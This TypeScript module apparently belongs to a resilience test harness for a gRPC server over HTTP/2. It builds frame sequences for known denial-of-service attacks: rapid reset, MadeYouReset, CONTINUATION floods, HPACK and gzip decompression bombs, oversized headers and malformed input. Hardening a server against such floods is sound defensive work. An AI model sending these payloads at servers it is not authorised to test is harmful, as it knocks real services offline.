import { gzipSync } from 'node:zlib'
import { frame } from '../raw-http2.ts'
import {
  callHeaders,
  cancelFrame,
  flags,
  frameTypes,
  http2Frame,
  keptLiteral,
  literal,
  settingsFrame,
  windowFrame,
} from './frames.ts'

/** What one connection of a flood sends after the preface of HTTP/2. */
export interface FloodKind {
  /** Once, at the beginning; empty settings unless said. */
  first?: Buffer
  /** The `index`th time, from 0 on, for the method of `path`; stream ids are odd and rise. */
  next: (index: number, path: string) => Buffer
  /** True where nothing is sent but this: not even the preface. */
  bare?: true
}

const headersOf = (stream: number, block: Buffer, flag: number = flags.endHeaders): Buffer =>
  http2Frame({ type: frameTypes.headers, flags: flag, stream }, block)
const streamOf = (index: number): number => 2 * index + 1

/** The `index`th call of a connection, with this body and further headers. */
export const call =
  (body: Buffer, ...more: Buffer[]) =>
  (index: number, path: string): Buffer =>
    Buffer.concat([headersOf(streamOf(index), callHeaders(path, ...more)), ...dataOf(streamOf(index), body)])

/** A call that asks by headers only. */
const asking =
  (...more: Buffer[]) =>
  (index: number, path: string): Buffer =>
    headersOf(streamOf(index), callHeaders(path, ...more), flags.endHeaders | flags.endStream)

/** Frames on a stream that the first one has opened. */
const onOneStream =
  (each: Buffer) =>
  (index: number, path: string): Buffer =>
    index === 0 ? Buffer.concat([headersOf(1, callHeaders(path)), each]) : each

const gzip = literal('grpc-encoding', 'gzip')
const inflating = lazy(() => frame(gzipSync(Buffer.alloc(50_000_000), { level: 9 }), true))
const large = lazy(() => frame(Buffer.alloc(1_000_000)))
const twoHundredHeaders = Array.from({ length: 200 }, (_, index) => literal(`x-${index}`, 'x'))

/** Every flood by name. None of these is what a gRPC library would send. */
export const floodKinds = {
  /** CVE-2023-44487: calls that are given up at once. */
  'rapid-reset': {
    next: (index, path) => Buffer.concat([headersOf(streamOf(index), callHeaders(path)), cancelFrame(streamOf(index))]),
  },
  /** CVE-2025-8671: the same, but it is the server that is made to reset. */
  'made-you-reset': {
    next: (index, path) =>
      Buffer.concat([headersOf(streamOf(index), callHeaders(path)), windowFrame(streamOf(index), 0)]),
  },
  /** CVE-2024-27316 and others: a header block that never ends. */
  continuation: {
    next: (index, path) =>
      index === 0
        ? headersOf(1, callHeaders(path), flags.none)
        : http2Frame({ type: frameTypes.continuation, stream: 1 }, literal(`x-${index}`, 'x'.repeat(1000))),
  },
  'empty-continuation': {
    next: (index, path) =>
      index === 0
        ? headersOf(1, callHeaders(path), flags.none)
        : http2Frame({ type: frameTypes.continuation, stream: 1 }),
  },
  settings: { next: () => settingsFrame(4, 65_535) },
  ping: { next: () => http2Frame({ type: frameTypes.ping }, Buffer.alloc(8)) },
  'empty-data': { next: onOneStream(http2Frame({ type: frameTypes.data, stream: 1 })) },
  'empty-headers': { next: (index) => headersOf(streamOf(index), Buffer.alloc(0)) },
  priority: { next: onOneStream(http2Frame({ type: frameTypes.priority, stream: 1 }, Buffer.from([0, 0, 0, 0, 16]))) },
  'window-update': { next: onOneStream(windowFrame(0, 1)) },
  /** One byte each for a header of 4000. */
  'hpack-bomb': {
    next: (index, path) =>
      index === 0
        ? asking(keptLiteral('bomb', 'x'.repeat(3500)))(index, path)
        : asking(Buffer.alloc(4000, 0xbe))(index, path),
  },
  'many-headers': { next: asking(...twoHundredHeaders) },
  'huge-header': { next: asking(literal('x-huge', 'x'.repeat(15_000))) },
  'gzip-bomb': { next: (index, path) => call(inflating(), gzip)(index, path) },
  'malformed-gzip': { next: call(frame(Buffer.from('no gzip'), true), gzip) },
  'large-message': { next: (index, path) => call(large())(index, path) },
  'bad-path': { next: (index) => asking()(index, `/\u00ff\u0001?../${index}`) },
  'bad-frame': { next: () => Buffer.concat([http2Frame({ type: frameTypes.data, stream: 0 }, Buffer.alloc(8))]) },
  garbage: { bare: true, next: (index) => Buffer.alloc(1000, index) },
  /** A call without its message: UNIMPLEMENTED before any worker is asked. */
  'refused-call': { next: asking() },
  /** Connections that say nothing. */
  silent: { bare: true, next: () => Buffer.alloc(0) },
} as const satisfies Record<string, FloodKind>

/** Name of a flood. */
export type FloodName = keyof typeof floodKinds

function dataOf(stream: number, body: Buffer): Buffer[] {
  const frames: Buffer[] = []
  for (let at = 0; at < body.byteLength; at += 16_384) {
    const last = at + 16_384 >= body.byteLength
    const head = { type: frameTypes.data, flags: last ? flags.endStream : flags.none, stream }
    frames.push(http2Frame(head, body.subarray(at, at + 16_384)))
  }
  return frames
}

function lazy<Value>(make: () => Value): () => Value {
  let made: Value | undefined
  return () => (made ??= make())
}
